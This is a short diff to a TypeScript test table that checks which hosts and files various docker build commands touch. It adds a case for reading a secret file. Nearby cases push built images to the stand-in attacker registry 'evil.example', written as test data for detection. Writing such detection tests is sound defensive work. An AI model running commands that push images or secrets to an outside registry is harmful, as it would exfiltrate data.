@@ -384,6 +384,7 @@ const CASES: [string, string[]][] = [
   ['docker buildx build --push -t evil.example/x .', ['host evil.example']],
   ['docker build -o type=image,name=evil.example/x,push=true .', ['write type=image,name=evil.example/x,push=true tree:named', 'host evil.example']],
   ['docker build -t evil.example/x .', []],
+  ['docker build --secret id=k,src=secrets/key .', ['read secrets/key']],
 ];
 
 describe('what a command touches (table)', () => {
